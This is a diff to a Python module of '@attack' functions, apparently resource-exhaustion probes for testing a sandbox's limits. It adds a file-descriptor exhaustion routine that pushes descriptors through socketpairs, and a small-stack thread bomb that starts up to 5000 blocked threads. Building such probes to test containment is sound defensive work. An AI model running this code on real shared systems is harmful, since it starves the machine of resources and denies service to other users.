@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import _thread
 import ctypes
 import gc
 import mmap
 import os
 import signal
+import socket
 import sys
 import threading
 import time
@@ -106,6 +108,42 @@ def hoard_in_pipes(job):
                 continue
     except OSError as error:
         return {"held": held, "errno": error.errno}
+
+
+@attack
+def hold_descriptors_in_flight(job):
+    """Descriptors that lie in a socket count against the user: enough of them, and nobody sends."""
+    held = 0
+    for _ in range(30):
+        near, far = socket.socketpair()
+        near.setblocking(False)
+        _HELD.extend((near, far))
+        try:
+            while True:
+                socket.send_fds(near, [b"x"], [near.fileno()] * 250)
+                held += 250
+        except OSError:
+            continue
+    return "held"
+
+
+_HELD: list[socket.socket] = []
+
+
+@attack
+def bomb_with_small_threads(job):
+    """Threads with the smallest stacks: numbers that the whole machine has a limit of (row 21)."""
+    made = 0
+    gate = threading.Lock()
+    gate.acquire()
+    threading.stack_size(32768)
+    while made < 5000:
+        try:
+            _thread.start_new_thread(gate.acquire, ())
+        except (RuntimeError, MemoryError):
+            break
+        made += 1
+    return {"made": made, "stopped": made < 5000}
 
 
 @attack
